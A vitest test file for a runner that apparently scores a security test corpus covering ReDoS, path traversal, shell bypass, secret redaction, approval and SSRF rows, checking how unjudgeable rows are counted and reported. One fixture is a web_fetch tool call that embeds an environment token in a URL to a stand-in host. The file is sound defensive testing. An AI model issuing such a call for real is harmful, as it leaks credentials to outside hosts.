import { execFile } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { expect, it } from 'vitest'
import { temporaryWorkspace } from '../../src/testing/index.ts'

const attack = fileURLToPath(new URL('./attack.ts', import.meta.url))

const ROWS = {
  'redos.jsonl': [
    { id: 'deep', pattern: '**/*.txt', input: 'a/b/c.txt', class: 'glob', expect: 'bounded', budget_ms: 1000 },
    { id: 'endless', pattern: 'x*', input: 'x'.repeat(300), class: 'glob', expect: 'bounded', budget_ms: 1000 },
  ],
  'path-traversal.jsonl': [{ id: 'verb', op: 'teleport', path: 'a.txt', class: 'x', expect: 'deny' }],
  'shell-bypass.jsonl': [{ id: 'policy', command: 'ls', policy: 'of another corpus', class: 'x', expect: 'deny' }],
  'secrets.jsonl': [
    {
      id: 'store',
      store: { OWN_KEY: 'value-of-this-row-alone' },
      secret: 'OWN_KEY',
      output: 'before value-of-this-row-alone after',
      class: 'redact-edge',
      expect: 'redacted',
    },
    {
      id: 'arguments',
      call: {
        tool: 'web_fetch',
        args: { url: 'https://somewhere.test/$ENV.PLAIN_TOKEN', retries: 3, headers: { a: 'b' } },
      },
      class: 'inject-policy',
      expect: 'policy',
    },
  ],
  'approval.jsonl': [
    {
      id: 'more',
      rule: { tool: 'run', pattern: '^\\{"command":"npm test","cwd":"."\\}$' },
      call: { tool: 'run', args: { command: 'npm test', cwd: '.' } },
      class: 'seed-example',
      expect: 'allow',
    },
  ],
  'terminal.jsonl': [{ id: 'word', field: 'path', value: 'a', class: 'escape', expect: 'shown in red' }],
}

/** Rows that cannot be judged, and why; a text is a literal line. */
const UNJUDGEABLE = {
  'approval.jsonl': [
    [{ id: 'no-rule', call: { tool: 'run', args: {} }, expect: 'deny' }, "no-rule not run: 'rule' is missing"],
    [{ id: 'no-call', rule: { tool: 'run', pattern: 'x' }, expect: 'deny' }, "no-call not run: 'call' is missing"],
    [
      { id: 'no-tool', rule: { tool: 'run', pattern: 'x' }, call: { args: {} }, expect: 'deny' },
      "no-tool not run: 'call' cannot be used",
    ],
    [
      { id: 'maybe', rule: { tool: 'run', pattern: 'x' }, call: { tool: 'run', args: {} }, expect: 'maybe' },
      "maybe not run: no check stands for 'maybe'",
    ],
  ],
  'patches.jsonl': [
    [{ id: 'no-before', patch: 'x', expect: 'reject' }, "no-before not run: 'before' is missing"],
    [{ id: 'no-patch', before: {}, expect: 'reject' }, "no-patch not run: 'patch' is missing"],
  ],
  'path-traversal.jsonl': [
    [{ id: 'no-path', op: 'read', expect: 'deny' }, "no-path not run: 'path' is missing"],
    [{ id: 'refuse', op: 'read', path: 'a', expect: 'refuse' }, "refuse not run: no check stands for 'refuse'"],
  ],
  'redos.jsonl': [
    [
      { id: 'no-pattern', input: 'a', class: 'glob', expect: 'bounded' },
      "no-pattern not run: 'pattern' is missing, 'budget_ms' is missing",
    ],
  ],
  'secrets.jsonl': [
    [
      { id: 'nothing', expect: 'redacted' },
      "nothing not run: it has none of 'call', 'input', 'parts', 'channel', 'chunks_b64', 'size_bytes', 'output_b64', 'output'",
    ],
    [{ id: 'hidden', output: 'a', expect: 'hidden' }, "hidden not run: no check stands for 'hidden'"],
    [
      { id: 'other', output: 'a', secret: 'OF_NOBODY', expect: 'redacted' },
      "other not run: there is no secret 'OF_NOBODY'",
    ],
    [{ id: 'none', output_b64: 'YQ==', expect: 'redacted' }, "none not run: 'secret' is missing"],
  ],
  'shell-bypass.jsonl': [
    [{ id: 'no-command', policy: 'default', expect: 'deny' }, "no-command not run: 'command' is missing"],
    [
      { id: 'also', command: 'ls', policy: 'x', expect: 'deny', ok: ['deny', 'perhaps'] },
      "also not run: no check stands for 'perhaps'",
    ],
  ],
  'ssrf.jsonl': [
    [{ id: 'no-url', expect: 'deny' }, "no-url not run: 'url' is missing"],
    ['{"id": "torn", "url": ', 'ssrf.jsonl:2 not run: it is no JSON'],
    ['', undefined],
    ['42', 'ssrf.jsonl:4 not run: it is no row'],
    ['{"url": "https://a.test", "class": "x", "expect": "deny"}', "ssrf.jsonl:5 not run: 'id' is missing or no text"],
    [{ id: 'number', url: 7, expect: 'deny' }, "number not run: 'url' cannot be used"],
    [{ id: 'drop', url: 'https://a.test', expect: 'drop' }, "drop not run: no check stands for 'drop'"],
  ],
} as const

it('neither passes nor fails a row that it cannot judge, and goes on', async () => {
  await using corpus = temporaryWorkspace()
  for (const [name, rows] of Object.entries(UNJUDGEABLE)) {
    const lines = rows.map(([row]) => (typeof row === 'string' ? row : JSON.stringify({ class: 'x', ...row })))
    writeFileSync(join(corpus.path, name), lines.join('\n'))
  }
  const { stdout } = await promisify(execFile)(process.execPath, [attack, corpus.path])
  const told = stdout.trimEnd().split('\n')
  const reasons = Object.values(UNJUDGEABLE).flatMap(rows => rows.flatMap(([, why]) => (why ? [`  ${why}`] : [])))
  expect(told.filter(line => line.startsWith(' ')).toSorted()).toEqual(reasons.toSorted())
  for (const line of told.filter(one => !one.startsWith(' ')))
    expect(line).toMatch(/^\S+: 0\/0 \(security 0\/0, legitimate 0\/0\), \d+ not run$/)
})

it('runs rows of other shapes, and tells those that it cannot run from those that failed', async () => {
  await using corpus = temporaryWorkspace()
  for (const [name, rows] of Object.entries(ROWS))
    writeFileSync(join(corpus.path, name), rows.map(row => `${JSON.stringify({ why: '', ...row })}\n`).join(''))
  const { stdout } = await promisify(execFile)(process.execPath, [attack, corpus.path])
  const files = stdout.split('\n').filter(line => /^\S/.test(line))
  expect(files).toEqual([
    'approval.jsonl: 1/1 (security 0/0, legitimate 1/1)',
    'path-traversal.jsonl: 0/0 (security 0/0, legitimate 0/0), 1 not run',
    'redos.jsonl: 1/1 (security 1/1, legitimate 0/0), 1 not run',
    'secrets.jsonl: 2/2 (security 2/2, legitimate 0/0)',
    'shell-bypass.jsonl: 0/0 (security 0/0, legitimate 0/0), 1 not run',
    'terminal.jsonl: 0/0 (security 0/0, legitimate 0/0), 1 not run',
  ])
  expect(stdout).toContain("  verb not run: no tool stands for 'teleport'\n")
})
